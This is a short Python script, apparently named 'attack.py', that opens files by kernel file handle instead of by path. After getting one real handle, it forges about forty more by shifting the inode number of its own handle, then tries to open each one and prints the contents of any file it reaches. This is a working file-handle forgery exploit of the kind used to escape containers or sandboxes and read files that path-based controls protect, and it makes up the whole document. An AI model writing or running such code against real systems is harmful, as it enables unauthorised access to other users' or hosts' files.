"""Opens a file by its handle, which needs no path. argv: the file, a folder of the same file system."""
import ctypes
import os
import sys

print("started", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
handle, mount = ctypes.create_string_buffer(b"\x80\0\0\0", 136), ctypes.c_int()
print("handle", libc.name_to_handle_at(-100, sys.argv[1].encode(), handle, ctypes.byref(mount), 0), ctypes.get_errno())
at = os.open(sys.argv[2], os.O_RDONLY)
# Without the handle, the numbers near that of a file that may be read.
own = ctypes.create_string_buffer(b"\x80\0\0\0", 136)
libc.name_to_handle_at(-100, b"attack.py", own, ctypes.byref(mount), 0)
for h in [handle] + [ctypes.create_string_buffer(own.raw[:8] + (int.from_bytes(own.raw[8:12], "little") + n).to_bytes(4, "little") + own.raw[12:], 136) for n in range(-40, 1)]:
    fd = libc.open_by_handle_at(at, h, 0)
    if fd >= 0:
        try:
            print(os.read(fd, 4096))
        except OSError as e:
            print(e.strerror)
print("open", ctypes.get_errno())
